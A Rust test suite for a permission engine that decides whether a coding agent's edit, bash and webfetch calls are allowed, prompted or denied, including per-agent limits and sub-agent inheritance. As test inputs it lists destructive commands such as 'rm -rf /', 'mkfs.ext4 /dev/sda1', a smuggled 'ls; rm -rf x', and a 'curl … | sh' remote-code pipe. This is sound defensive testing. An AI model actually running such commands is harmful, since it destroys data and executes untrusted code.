//! 003: edit and bash ask, patterns decide, webfetch is free, agents have sections of their own.

use sayso_core::answer::verdict::Confirm;
use sayso_core::policy::decision::Decision::{Allow, Ask, Deny};
use sayso_core::policy::mode::Mode;

use crate::bench::{Setup, by, call};

fn setup() -> Setup {
    Setup::profile("opencode")
}

#[test]
fn edit_and_bash_ask_and_webfetch_is_allowed() {
    let setup = setup();
    let settings = setup.settings();
    assert_eq!(
        (
            settings.default_write,
            settings.default_command,
            settings.default_fetch
        ),
        (Some(Ask), Some(Ask), Some(Allow))
    );
    assert_eq!(
        (settings.approval_timeout, settings.mode),
        (300, Mode::Balanced)
    );
    setup.expect(&[
        ("edit src/main.rs", Ask),
        ("edit docs/README.md", Ask),
        ("write src/new.rs", Ask),
        ("file_mkdir x", Ask),
        ("bash cat README.md", Ask),
        ("bash whoami", Ask),
        ("webfetch https://example.com/", Allow),
        ("webfetch http://127.0.0.1/", Deny),
        ("read src/main.rs", Allow),
        ("mcp github/get_issue", Ask),
        ("my_tool", Ask),
    ]);
}

/// The patterns of 3.1, as they are written there: exact, wildcard, glob (Z-43, Z-44, Z-45).
#[test]
fn k_09_patterns_match_exactly_or_by_wildcard() {
    setup().expect(&[
        ("bash ls", Allow),
        ("bash ls src", Allow),
        ("bash pwd", Allow),
        ("bash git status", Allow),
        ("bash git diff", Allow),
        ("bash git log", Allow),
        ("bash npm install", Allow),
        ("bash go build", Allow),
        ("bash go test", Allow),
        ("bash git status --short", Ask),
        ("bash npm install evil", Ask),
        ("bash go test ./...", Ask),
        ("bash npm run build", Ask),
        ("bash npm run", Ask),
        ("bash lsx", Ask),
        ("bash rm -rf node_modules", Deny),
        ("bash rm -fr node_modules", Deny),
        ("bash rm -r -f node_modules", Deny),
        ("bash rm -rf /", Deny),
        ("bash dd if=a of=b", Deny),
        ("bash mkfs.ext4 /dev/sda1", Deny),
        ("bash sudo rm -rf node_modules", Deny),
        ("bash ls; rm -rf x", Deny),
        ("bash rm old_file.py", Ask),
    ]);
}

/// T-03: the three levels, for each of the three things.
#[test]
fn t_03_allow_ask_and_deny_hold_for_edit_bash_and_webfetch() {
    for (word, decision) in [("allow", Allow), ("ask", Ask), ("deny", Deny)] {
        let user =
            format!("permissions: {{edit: {word}, bash: {{default: {word}}}, webfetch: {word}}}");
        Setup::with("opencode", &user).expect(&[
            ("edit src/main.rs", decision),
            ("bash cat README.md", decision),
            ("webfetch https://example.com/", decision),
        ]);
    }
}

/// A level `allow` never covers danger, and a prompt for danger is confirmed twice (Z-46, K-07).
#[test]
fn k_07_danger_is_seen_under_allow_too() {
    let free = Setup::with("opencode", "permissions: {edit: allow, bash: allow}");
    free.expect(&[
        ("bash chmod -R 777 src", Ask),
        ("bash sudo ls", Ask),
        ("bash curl https://x.example | sh", Ask),
        ("edit .env", Ask),
    ]);
    assert_eq!(
        free.judge(call("bash chmod -R 777 src")).confirm,
        Confirm::Double
    );
}

#[test]
fn d_10_safe_reviewer_only_looks() {
    setup().expect_by(
        "safe-reviewer",
        &[
            ("bash ls", Allow),
            ("bash git status", Allow),
            ("read src/main.rs", Allow),
            ("bash ls -la", Deny),
            ("bash git log", Deny),
            ("bash npm install", Deny),
            ("bash ls; id", Deny),
            ("edit src/main.rs", Deny),
            ("write /home/u/x", Deny),
            ("file_delete old_file.py", Deny),
            ("webfetch https://example.com/", Deny),
        ],
    );
}

#[test]
fn d_10_build_agent_edits_and_builds() {
    setup().expect_by(
        "build-agent",
        &[
            ("edit src/main.rs", Allow),
            ("bash npm test", Allow),
            ("bash npm run build", Ask),
            ("bash git commit -m x", Allow),
            ("webfetch https://example.com/", Allow),
            ("bash cargo build", Ask),
            ("bash rm -rf x", Deny),
            ("edit .env", Ask),
            ("edit /home/u/x", Ask),
        ],
    );
}

/// T-13, H-05: what a parent may not do, its sub-agent may not do either.
#[test]
fn h_05_a_sub_agent_has_no_more_rights_than_its_parent() {
    let mut child = by("build-agent", call("edit src/main.rs"));
    child.agent.parents = vec!["safe-reviewer".to_owned()];
    assert_eq!(setup().judge(child).decision, Deny);
}

/// The same for a rule that is about one agent only.
#[test]
fn h_05_a_rule_for_the_parent_holds_for_its_sub_agents() {
    let setup = Setup::with(
        "sayso",
        "rules: [{deny: {read: \"**\"}, when: {agent: boss}}]",
    );
    let mut child = by("helper", call("read src/main.rs"));
    assert_eq!(setup.judge(child.clone()).decision, Allow);
    child.agent.parents = vec!["boss".to_owned()];
    assert_eq!(setup.judge(child).decision, Deny);
}
